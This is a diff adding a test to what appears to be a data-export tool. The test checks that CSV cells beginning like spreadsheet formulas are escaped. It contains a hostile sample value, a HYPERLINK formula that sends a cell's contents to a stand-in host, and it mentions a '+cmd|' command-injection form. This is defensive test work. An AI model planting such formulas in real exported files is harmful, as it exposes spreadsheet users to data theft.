@@ -105,6 +105,21 @@ def test_csv_for_analysts_with_its_provenance(espace, tmp_path):
     assert provenance["perimetre"]["type"] == "ensemble" and provenance["referentiel"]["fichiers"]
 
 
+def test_csv_cells_never_start_like_a_formula(tmp_path):
+    """A name that a spreadsheet would run (« =HYPERLINK(…) », « +cmd|… ») is written behind an
+    apostrophe in the CSV; the xlsx report writes it as text anyway."""
+    import builders
+
+    hostile = '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")'
+    liasse = builders.write_liasse(tmp_path, rows=(builders.LIASSE_B.replace("Logis Test B", hostile),))
+    espace = tmp_path / "espace"
+    assert runner.invoke(app, ["--espace", str(espace), "import", str(liasse)]).exit_code == 0
+    result = run(espace, "export", "--territoire", "FRANCE", "--format", "csv", "--sortie", tmp_path / "r.csv")
+    assert result.exit_code == 0, result.output
+    names = set(pl.read_csv(tmp_path / "r.csv", infer_schema=False)["raison_sociale"].drop_nulls().to_list())
+    assert names == {"'" + hostile}
+
+
 def test_parquet_carries_its_provenance(espace, tmp_path):
     result = run(espace, "export", "--format", "parquet", "--organisme", SIREN_A, "--sortie", tmp_path / "a.parquet")
     assert result.exit_code == 0, result.output
